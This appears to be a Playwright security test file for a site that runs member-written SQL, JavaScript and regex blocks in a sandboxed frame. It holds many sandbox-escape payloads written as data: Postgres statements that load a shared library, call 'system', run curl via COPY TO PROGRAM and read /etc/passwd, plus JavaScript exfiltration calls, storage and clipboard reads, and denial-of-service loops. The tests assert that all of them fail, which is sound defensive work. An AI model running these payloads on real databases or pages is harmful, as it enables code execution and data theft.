import { readdir } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "@playwright/test";
import { root } from "../../scripts/setup/paths.mjs";
import { call, join as register } from "../support/call.ts";
import { demo, signIn } from "../support/site/accounts.ts";
import { statusesOfCode } from "../support/site/code.ts";
import { sideModule } from "../support/site/side-module.ts";
import { expect, test } from "../support/site/test.ts";

// What members write runs in the browsers of readers and reviewers alone, in a frame without an origin. These tests attack
// that frame: once with what an article can hold, once with JavaScript that has already left every engine.

/** A site of somebody else's, which notes what reaches it. */
let elsewhere: Server;
let elsewhereUrl: string;
const reached: string[] = [];
test.beforeAll(async () => {
  elsewhere = createServer((request, answer) => {
    reached.push(request.url ?? "");
    answer.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("1");
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => elsewhere.once("listening", resolve));
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
test.afterAll(() => elsewhere.close());

/** What leaves a page, in a browser whose console may complain: a policy that holds says so. */
interface Watch {
  readonly context: BrowserContext;
  readonly page: Page;
  /** What was asked and answered, dialogs, downloads, new pages. A request that the policy stops has no answer. */
  readonly left: string[];
  readonly said: string[];
}

async function watched(browser: Browser, baseURL: string | undefined): Promise<Watch> {
  const context = await browser.newContext({ baseURL });
  const left: string[] = [];
  const said: string[] = [];
  context.on("response", (answer) => left.push(`${answer.request().method()} ${answer.url()}`));
  context.on("console", (message) => said.push(message.text()));
  const page = await context.newPage();
  context.on("page", (opened) => left.push(`opened ${opened.url()}`));
  page.on("dialog", (dialog) => {
    left.push(`asked ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("download", (download) => left.push(`downloaded ${download.url()}`));
  return { context, page, left, said };
}

const mark = "ESCAPED";
const hex = sideModule(`console.log('${mark}'); postMessage({ end: 'ran', output: '${mark}' });`).toString(
  "hex",
);

/** One database: each statement finds what those before it have left. */
const statements = [
  `select lo_from_bytea(424242, decode('${hex}', 'hex'))`,
  "select lo_export(424242, '/tmp/side.so')",
  "create function side() returns int language c as '/tmp/side.so', 'side'",
  "load '/tmp/side.so'",
  "create function side() returns int language internal as 'system'",
  "alter system set shared_preload_libraries = '/tmp/side.so'",
  "alter system set archive_command = 'curl ADDRESS/archive'",
  "copy (select 'x') to program 'curl ADDRESS/copy'",
  "copy pg_class to '/etc/passwd'",
  "create table seen (line text); copy seen from '/etc/passwd'; select * from seen",
  "select pg_read_file('/etc/passwd')",
  "select lo_import('/etc/passwd')",
  "create extension dblink; select dblink_connect('host=127.0.0.1')",
  "create extension postgres_fdw",
  "create extension file_fdw",
  "create extension plpython3u",
  "create extension plperlu",
  "create subscription s connection 'host=127.0.0.1 dbname=x' publication p",
  "do $$ begin execute 'load ''/tmp/side.so'''; end $$",
  "set session authorization postgres; set role postgres; load '/tmp/side.so'",
];

/** Each by itself: it has to be ended. */
const endless = [
  ["sql", "with recursive r as (select 1 as n union all select n + 1 from r) select count(*) from r"],
  ["js", "for (;;);"],
  ["js", "throw Object.defineProperty(new Error(), 'message', { get() { for (;;); } });"],
  ["regex", `/^(([a-z])+.)+[A-Z]([a-z])+$/\n+ ${"a".repeat(60)}`],
] as const;

/** They end by themselves, at what their engine may have. */
const greedy = [
  ["sql", "select length(repeat('x', 1000000000))"],
  ["sql", "do $$ declare a text := 'x'; begin loop a := a || a; end loop; end $$"],
  ["js", "const a = []; for (;;) a.push(new Array(10000).fill(1));"],
  ["js", "for (let i = 0; i < 100000; i++) console.log('x'.repeat(1000));"],
  ["js", "(function f() { f(); f(); })();"],
  ["json", `${"[".repeat(20_000)}${"]".repeat(20_000)}`],
] as const;

const outsideOfScripts = [
  "fetch('ADDRESS/fetch')",
  "new WebSocket('ADDRESS/socket')",
  "importScripts('ADDRESS/script')",
  "await import('ADDRESS/module')",
  "Function('return this')().postMessage({ end: 'ran', output: 'ESCAPED' })",
  "parent.document.title = 'ESCAPED'",
  "process.exit()",
  "localStorage.setItem('ESCAPED', '1')",
];

const fence = (info: string, code: string) => `\`\`\`${info}\n${code}\n\`\`\`\n`;

test("what an article can hold leaves no reviewer's browser, and each block of it ends", async ({
  browser,
  baseURL,
}) => {
  const url = baseURL ?? "";
  const body = [
    ...statements.map((code) => fence("sql check session=attack", code.replace("ADDRESS", elsewhereUrl))),
    ...outsideOfScripts.map((code) => fence("js check", code.replace("ADDRESS", elsewhereUrl))),
    ...[...greedy, ...endless].map(([language, code]) => fence(`${language} check`, code)),
  ].join("\n");
  const title = `Ways out ${Date.now()}`;
  const writer = await register(url, "User");
  const sent = await call(url, "POST", "/content", {
    token: writer.token,
    body: { title, body, content_type: "Article", category: "Data Science" },
  });
  expect(sent.status, JSON.stringify(sent.body)).toBe(201);

  const { context, page, left, said } = await watched(browser, baseURL);
  await signIn(page, demo.admin);
  await page.goto("/content-management");
  left.length = 0;
  await page.getByRole("button", { name: title, exact: true }).click();
  const code = page.getByRole("dialog", { name: title }).getByRole("region", { name: "Code" });
  // Each program has five seconds, and each database a start.
  await expect(code.getByRole("status")).toContainText(/^38 code blocks in your browser: \d+ failed/, {
    timeout: 150_000,
  });

  const lines = await code.locator("[data-outcome]").allInnerTexts();
  expect(lines).toHaveLength(statements.length + outsideOfScripts.length + greedy.length + endless.length);
  expect(lines.join("\n")).not.toContain(mark);
  expect(lines.slice(-endless.length).map((line) => line.split(": ")[1])).toEqual(
    endless.map(() => "It ran longer than 5 seconds."),
  );
  expect(said.filter((text) => text.includes(mark))).toEqual([]);
  expect(reached).toEqual([]);
  const foreign = left.filter((line) => !line.includes(` ${url}/`) && !/ (?:blob|data):/.test(line));
  expect(foreign).toEqual([]);
  expect(page.frames()).toHaveLength(1);
  expect(new URL(page.url()).pathname).toBe("/content-management");
  expect(await page.evaluate(() => Object.keys(localStorage).join())).not.toContain(mark);
  await context.close();
});

test("a program that is stopped while its engine loads never begins", async ({ page }) => {
  let load = () => {};
  const held = new Promise<void>((resolve) => {
    load = resolve;
  });
  await page.route("**/*.wasm", async (route) => {
    await held;
    await route.continue();
  });
  await page.goto("/posts/35");
  const article = page.getByRole("article");
  await article.locator("pre").first().scrollIntoViewIfNeeded();
  await article.getByRole("button", { name: "Run block 2" }).click();
  await article.getByRole("button", { name: "Stop block 2" }).click();
  await expect(statusesOfCode(article).nth(1)).toHaveText("Stopped.");
  const answered = page.waitForResponse("**/*.wasm");
  load();
  await (await answered).finished();
  // The page has the file now, and the next press runs at once.
  await article.getByRole("button", { name: "Run block 2" }).click();
  await expect(statusesOfCode(article).nth(1)).toContainText("It ran in your browser.");
  await expect(page.locator("iframe")).toHaveCount(0);
});

/** Each resolves to what it got; a refusal is an error. Run in the frame's document and in its worker, as they are. */
const attempts: Record<string, string> = {
  "reads the page": "parent.document.title",
  "reads the page's storage": "parent.localStorage.length",
  "reads the page's address": "top.location.href",
  "leads the page elsewhere": "top.location = 'ADDRESS/top', 'went'",
  "leads the parent elsewhere": "parent.location.replace('ADDRESS/parent'), 'went'",
  "stores in localStorage": "localStorage.setItem('ESCAPED', '1'), 'stored'",
  "stores in sessionStorage": "sessionStorage.setItem('ESCAPED', '1'), 'stored'",
  "sets a cookie": "(document.cookie = 'ESCAPED=1', document.cookie)",
  "opens a database":
    "new Promise((resolve, reject) => { const asked = indexedDB.open('ESCAPED'); asked.onsuccess = () => resolve('opened'); asked.onerror = () => reject(asked.error); })",
  "opens a cache": "caches.open('ESCAPED').then(() => 'opened')",
  "opens the private file system": "navigator.storage.getDirectory().then(() => 'opened')",
  "holds a lock": "navigator.locks.request('ESCAPED', () => 'held')",
  "registers a service worker": "navigator.serviceWorker.register('/sw.js').then(() => 'registered')",
  "asks the site": "fetch('/api/auth/me').then(({ status }) => status)",
  "asks another site": "fetch('ADDRESS/fetch', { mode: 'no-cors' }).then(() => 'asked')",
  "asks by XMLHttpRequest":
    "new Promise((resolve, reject) => { const asked = new XMLHttpRequest(); asked.open('GET', 'ADDRESS/xhr'); asked.onload = () => resolve('asked'); asked.onerror = () => reject(new Error('refused')); asked.send(); })",
  "opens a socket":
    "new Promise((resolve, reject) => { const socket = new WebSocket('ADDRESS/socket'.replace('http', 'ws')); socket.onopen = () => resolve('opened'); socket.onerror = () => reject(new Error('refused')); })",
  "listens to events":
    "new Promise((resolve, reject) => { const source = new EventSource('ADDRESS/events'); source.onopen = () => resolve('opened'); source.onerror = () => reject(new Error('refused')); })",
  "opens a transport":
    "new WebTransport('ADDRESS/transport'.replace('http', 'https')).ready.then(() => 'opened')",
  "sends a beacon":
    "navigator.sendBeacon('ADDRESS/beacon') && new Promise((resolve, reject) => setTimeout(reject, 300, new Error('sent nothing')))",
  "loads a picture":
    "new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new Error('refused')); image.src = 'ADDRESS/image'; })",
  "loads a script":
    "new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = () => resolve('loaded'); script.onerror = () => reject(new Error('refused')); script.src = 'ADDRESS/script'; document.head.append(script); })",
  "runs a script of its own text":
    "(() => { const script = document.createElement('script'); script.textContent = 'window.ESCAPED = true'; document.head.append(script); if (window.ESCAPED) return 'ran'; throw new Error('refused'); })()",
  prefetches:
    "new Promise((resolve, reject) => { const link = document.createElement('link'); Object.assign(link, { rel: 'prefetch', href: 'ADDRESS/prefetch', onload: () => resolve('loaded'), onerror: () => reject(new Error('refused')) }); document.head.append(link); })",
  "imports a module": "import('ADDRESS/module').then(() => 'imported')",
  "imports a script": "importScripts('ADDRESS/imported'), 'imported'",
  "starts a worker from elsewhere":
    "new Promise((resolve, reject) => { const worker = new Worker('ADDRESS/worker'); worker.onmessage = resolve; worker.onerror = () => reject(new Error('refused')); })",
  "starts a shared worker":
    "new Promise((resolve, reject) => { const shared = new SharedWorker('/sw.js'); shared.port.onmessage = resolve; shared.onerror = () => reject(new Error('refused')); })",
  "frames another site":
    "new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.src = 'ADDRESS/frame'; document.body.append(frame); setTimeout(reject, 300, new Error('refused')); })",
  "opens a window": "(() => { if (open('ADDRESS/window')) return 'opened'; throw new Error('refused'); })()",
  "downloads a file":
    "(() => { const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x'])); link.download = 'ESCAPED'; document.body.append(link); link.click(); throw new Error('nothing came'); })()",
  "sends a form":
    "(() => { const form = document.createElement('form'); Object.assign(form, { action: 'ADDRESS/form', method: 'post' }); document.body.append(form); form.submit(); throw new Error('nothing went'); })()",
  "asks the person": "(() => { alert('ESCAPED'); throw new Error('nobody was asked'); })()",
  "evaluates text": "eval('1 + 1')",
  "makes a function of text": "new Function('return 2')()",
  "shows a notice":
    "Notification.requestPermission().then((given) => { if (given !== 'granted') throw new Error('refused'); return given; })",
  "reads the clipboard": "navigator.clipboard.readText()",
  "asks where it is":
    "new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))",
  "speaks to the page's channel":
    "new Promise((resolve, reject) => { const channel = new BroadcastChannel('cairn'); channel.onmessage = resolve; channel.postMessage('ESCAPED'); setTimeout(reject, 300, new Error('nobody answered')); })",
};
/** Nothing for a document that is its own top. */
const aboutAPage = [
  "reads the page",
  "reads the page's address",
  "leads the page elsewhere",
  "leads the parent elsewhere",
];
/** What has no answer of its own within this time got nothing. */
const patience = 2_000;

/** Makes every attempt where it runs, and answers what each came to. */
const attack = `(async () => {
  const results = {};
  for (const [name, code] of Object.entries(ATTEMPTS)) {
    const late = new Promise((_, reject) => setTimeout(reject, ${patience}, new Error("no answer")));
    results[name] = await Promise.race([code(), late]).then((got) => "GOT " + got, (error) => String(error));
  }
  return results;
})()`;
const attackWith = (without: readonly string[] = []) => {
  const made = Object.entries(attempts)
    .filter(([name]) => !without.includes(name))
    .map(
      ([name, code]) => `${JSON.stringify(name)}: async () => (${code.replaceAll("ADDRESS", elsewhereUrl)})`,
    );
  return attack.replace("ATTEMPTS", `{${made.join(",\n")}}`);
};

/** The frame, as the page makes it; `program` becomes its worker's script. Answers the worker's first message. */
async function runInFrame(page: Page, frameUrl: string, program: string): Promise<unknown> {
  return page.evaluate(
    async ([src, script]) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.src = src;
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener("load", resolve));
      const { port1, port2 } = new MessageChannel();
      return new Promise((resolve) => {
        port1.onmessage = ({ data }) => resolve(data);
        frame.contentWindow?.postMessage({ program: script, task: null }, "*", [port2]);
      });
    },
    [frameUrl, program] as const,
  );
}

async function frameAddress(): Promise<string> {
  const name = (await readdir(join(root, "apps/web/dist/assets"))).find((file) =>
    /^code-frame-.*\.html$/.test(file),
  );
  return `/assets/${name}`;
}

const got = (results: unknown) =>
  Object.entries(results as object).filter(([, result]) => String(result).startsWith("GOT"));

test("JavaScript that has left every engine reaches nothing from the frame's worker, its document or the frame alone", async ({
  browser,
  baseURL,
}) => {
  const { context, page, left } = await watched(browser, baseURL);
  await signIn(page, demo.admin);
  await page.goto("/posts");
  await page.waitForLoadState("networkidle");
  const before = await page.evaluate(() => JSON.stringify({ ...localStorage }));
  const address = await frameAddress();
  left.length = 0;
  reached.length = 0;

  const said = "postMessage({ end: 'ran', output: JSON.stringify(results) })";
  const program = `${attackWith()}.then((results) => ${said});`;
  const { output } = (await runInFrame(page, address, program)) as { output: string };
  const inWorker = JSON.parse(output);
  expect(Object.keys(inWorker)).toHaveLength(Object.keys(attempts).length);
  expect(got(inWorker)).toEqual([]);
  // A result with a hundred thousand things beside it: the page gets the result alone.
  const flooded = `postMessage({ end: "ran", output: "x".repeat(1e6), more: Array.from({ length: 1e5 }, (_, at) => ({ at })) })`;
  const result = (await runInFrame(page, address, flooded)) as { end: string; output: string };
  expect([Object.keys(result), result.output.length]).toEqual([["end", "output"], 66_000]);
  expect(await runInFrame(page, address, "postMessage({ end: 'ran', output: [[], []] })")).toBe("failed");

  const [frame] = page.frames().filter((one) => one.url().endsWith(address));
  expect(got(await frame?.evaluate(attackWith()))).toEqual([]);
  // It cannot even lead itself to another site: the page frames this site alone.
  await frame?.evaluate((to) => location.assign(to), `${elsewhereUrl}/itself`).catch(() => {});
  expect(await page.evaluate(() => JSON.stringify({ ...localStorage }))).toBe(before);
  expect(await page.title()).not.toContain(mark);

  // Opened by itself it is as poor as in its frame.
  await page.goto(address);
  expect(await page.evaluate(() => self.origin)).toBe("null");
  expect(got(await page.evaluate(attackWith(aboutAPage)))).toEqual([]);

  expect(reached).toEqual([]);
  const allowed = left.filter((line) => !line.startsWith(`GET ${baseURL}/`) && !/ (?:blob|data):/.test(line));
  expect(allowed).toEqual([]);
  expect(left.filter((line) => line.includes("/api/auth/me"))).toEqual([]);
  expect(context.pages()).toHaveLength(1);
  expect((await context.cookies()).map(({ name }) => name)).not.toContain(mark);

  // The attempts are real ones: without walls most of them work.
  await page.goto(elsewhereUrl);
  const unloading = ["sends a form", "opens a window", "downloads a file", "asks the person"];
  expect(got(await page.evaluate(attackWith([...aboutAPage, ...unloading]))).length).toBeGreaterThan(15);
  await context.close();
});
